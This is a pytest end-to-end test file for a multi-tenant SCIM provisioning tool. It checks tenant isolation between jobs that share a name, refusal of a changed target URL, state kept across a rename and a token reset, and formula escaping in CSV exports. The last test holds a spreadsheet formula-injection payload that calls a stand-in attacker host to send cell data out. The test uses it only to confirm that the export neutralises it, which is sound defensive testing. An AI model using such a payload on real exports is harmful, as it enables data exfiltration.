"""Job identity, end to end: two job files with one name and two tenants' tokens never share
state, and each tenant's console shows exactly what its own tokens wrote.

The security report this answers: job A (tenant A's token) and job B (tenant B's token), both
named ``acunetix-360`` and run against one server and one database, shared links, escrow and
log; B's run logged a delete of A's user id, and B's console listed A's people. Here the
engine and a real ``scimhub serve`` share one database (SQLite, then PostgreSQL), and the
console is read over HTTP after signing in, as each tenant's admin would.
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.console.conftest import csrf_of
from tests.e2e.server import ServerProcess
from tests.engine.jobs import job_toml
from tests.support.postgres import temporary_database

PASSWORD = "correct horse battery"
NAME = "acunetix-360"
SECRET_A = "secret.person.of.A@a.example"
PERSON_B = "someone.of.B@b.example"



def person(oid: str, upn: str, given: str) -> dict[str, Any]:
    return {"objectId": oid, "userPrincipalName": upn, "mail": upn, "givenName": given,
            "surname": "Example", "accountEnabled": True}


@dataclass
class Site:
    server: ServerProcess
    database: str
    tokens: dict[str, str]


@pytest.fixture(params=["sqlite", "postgresql"], scope="module")
def site(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
         ) -> Iterator[Site]:
    workdir = tmp_path_factory.mktemp("identity")
    with temporary_database("scimhub_identity") as postgres:
        database = (f"sqlite:///{workdir}/shared.db" if request.param == "sqlite"
                    else postgres)
        server = ServerProcess(database=database, workdir=workdir)
        tokens = {t: server.create_tenant(t)["token"] for t in ("tenant-a", "tenant-b")}
        server.start()
        try:
            yield Site(server, database, tokens)
        finally:
            server.stop()


class JobFile:
    """One job file in its own directory, run by ``scimhub`` against the shared database."""

    def __init__(self, site: Site, workdir: Path, tenant: str, users: list[dict[str, Any]],
                 name: str = NAME, url: str | None = None) -> None:
        self.site = site
        self.workdir = workdir
        self.token = site.tokens[tenant]
        workdir.mkdir(parents=True, exist_ok=True)
        self.write(name, url or site.server.scim_url)
        (workdir / "directory.json").write_text(json.dumps({"users": users, "groups": []}))

    def write(self, name: str, url: str) -> None:
        (self.workdir / "job.toml").write_text(job_toml(name, url))

    def run(self, *args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, "-m", "scimhub", *args, "--database", self.site.database],
            capture_output=True, text=True, timeout=120, check=False,
            env={**os.environ, "SCIMHUB_TARGET_TOKEN": self.token,
                 "SCIMHUB_KEY_FILE": str(self.site.server.workdir / "secret.key")})

    def sync(self) -> subprocess.CompletedProcess[str]:
        return self.run("sync", "--config", str(self.workdir / "job.toml"), "--once", "--json")


def console(site: Site, tenant: str) -> httpx.Client:
    """A browser-like client signed in to the console as the tenant's admin."""
    client = httpx.Client(base_url=site.server.url, follow_redirects=False)
    token = csrf_of(client.get("/signin").text)
    signed = client.post("/signin", data={"email": f"admin@{tenant}.example",
                                          "password": PASSWORD, "csrf": token})
    assert signed.status_code == 303, signed.text
    return client


def views(client: httpx.Client) -> tuple[list[dict[str, Any]], str, str]:
    """The tenant's provisioning log as JSON, as CSV, and the HTML page."""
    as_json = client.get("/provisioning", params={"format": "json"})
    as_csv = client.get("/provisioning", params={"format": "csv"})
    page = client.get("/provisioning")
    assert as_json.status_code == as_csv.status_code == page.status_code == 200
    return as_json.json(), as_csv.text, page.text


def scim_users(site: Site, tenant: str) -> dict[str, dict[str, Any]]:
    listed = httpx.get(f"{site.server.scim_url}/Users",
                       headers={"Authorization": f"Bearer {site.tokens[tenant]}"}).json()
    return {u["userName"]: u for u in listed["Resources"]}


def test_two_jobs_named_alike_for_two_tenants_never_mix(site: Site, tmp_path: Path) -> None:
    job_a = JobFile(site, tmp_path / "a", "tenant-a", [person("a1", SECRET_A, "Secret")])
    job_b = JobFile(site, tmp_path / "b", "tenant-b", [person("b1", PERSON_B, "Bea")])
    first = job_a.sync()
    assert first.returncode == 0, first.stderr
    a_user = scim_users(site, "tenant-a")[SECRET_A]

    refused = job_b.sync()
    assert refused.returncode == 1
    assert "another tenant" in refused.stderr and NAME in refused.stderr
    assert SECRET_A in scim_users(site, "tenant-a"), "A's user is untouched"
    assert scim_users(site, "tenant-b") == {}, "the refused job wrote nothing"

    # Under a name of its own, B's file is a new job with no state: it provisions B's
    # directory and nothing of A's.
    job_b.write("acunetix-360-b", site.server.scim_url)
    second = job_b.sync()
    assert second.returncode == 0, second.stderr
    assert json.loads(second.stdout)["kind"] == "initial"
    assert set(scim_users(site, "tenant-b")) == {PERSON_B}

    everything = json.loads(job_a.run("logs", "--format", "json", "--limit", "1000").stdout)
    b_entries = [e for e in everything if e["job"] == "acunetix-360-b"]
    assert b_entries and all(a_user["id"] not in json.dumps(e) and "a1" not in
                             (e["source_id"], e["target_id"]) for e in b_entries)
    assert not [e for e in everything if e["action"] == "delete"]

    b_json, b_csv, b_page = views(console(site, "tenant-b"))
    assert {e["identity"] for e in b_json} == {PERSON_B}
    assert SECRET_A not in b_csv and a_user["id"] not in b_csv and PERSON_B in b_csv
    assert SECRET_A not in b_page and PERSON_B in b_page
    assert "acunetix-360-b" in b_page and f">{NAME}<" not in b_page

    a_json, a_csv, a_page = views(console(site, "tenant-a"))
    assert {e["identity"] for e in a_json} == {SECRET_A}
    assert {e["job"] for e in a_json} == {NAME}
    assert PERSON_B not in a_csv and PERSON_B not in a_page and "acunetix-360-b" not in a_page


def test_another_target_url_under_the_same_name_is_refused(site: Site, tmp_path: Path) -> None:
    job = JobFile(site, tmp_path, "tenant-a", [person("m1", "moved@a.example", "Moe")],
                  name="moving-job")
    assert job.sync().returncode == 0
    elsewhere = "http://127.0.0.1:9/scim/v2"
    job.write("moving-job", elsewhere)
    refused = job.sync()
    assert refused.returncode == 1
    assert site.server.scim_url in refused.stderr and elsewhere in refused.stderr
    assert "job reset moving-job --yes" in refused.stderr
    status = json.loads(job.run("job", "status", "--json").stdout)
    row = next(r for r in status if r["job"] == "moving-job")
    assert row["quarantine_reason"] is None, "a refused file does not touch the stored job"


def test_rename_keeps_state_and_a_token_reset_keeps_history(site: Site, tmp_path: Path) -> None:
    upn = "rotating@a.example"
    job = JobFile(site, tmp_path, "tenant-a", [person("r1", upn, "Rory")], name="before")
    assert json.loads(job.sync().stdout)["counts"] == {"create": 1}

    renamed = job.run("job", "rename", "before", "after")
    assert renamed.returncode == 0, renamed.stderr
    job.write("after", site.server.scim_url)
    again = json.loads(job.sync().stdout)
    assert again["kind"] == "incremental" and again["counts"] == {}, "links were kept"

    reset = subprocess.run([sys.executable, "-m", "scimhub", "token", "reset", "tenant-a",
                            "--json"], env=site.server.env, capture_output=True, text=True,
                           timeout=60, check=True)
    new_token = json.loads(reset.stdout)["token"]
    old_token, site.tokens["tenant-a"] = site.tokens["tenant-a"], new_token
    try:
        assert httpx.get(f"{site.server.scim_url}/Users",
                         headers={"Authorization": f"Bearer {old_token}"}).status_code == 401
        job.token = new_token
        rotated = job.sync()
        assert rotated.returncode == 0, rotated.stderr
        assert json.loads(rotated.stdout)["counts"] == {}, "same job, same links"

        a_json, a_csv, a_page = views(console(site, "tenant-a"))
        created = [e for e in a_json if e["identity"] == upn and e["action"] == "create"]
        assert len(created) == 1 and created[0]["job"] == "after", \
            "the create written with the revoked token is still the tenant's"
        assert upn in a_csv and "after" in a_page
        b_json, _, _ = views(console(site, "tenant-b"))
        assert upn not in {e["identity"] for e in b_json}
    finally:
        site.tokens["tenant-a"] = new_token


def test_csv_export_neutralises_formulas(site: Site, tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    job = JobFile(site, tmp_path, "tenant-b", [person("f1", formula, "Eve")],
                  name="formula-job")
    assert job.sync().returncode == 0
    _, as_csv, _ = views(console(site, "tenant-b"))
    cells = [row[4] for row in csv.reader(io.StringIO(as_csv))][1:]
    assert "'" + formula in cells and formula not in cells
    cli = job.run("logs", "--job", "formula-job", "--format", "csv").stdout
    assert "'" + formula in [row[4] for row in csv.reader(io.StringIO(cli))]
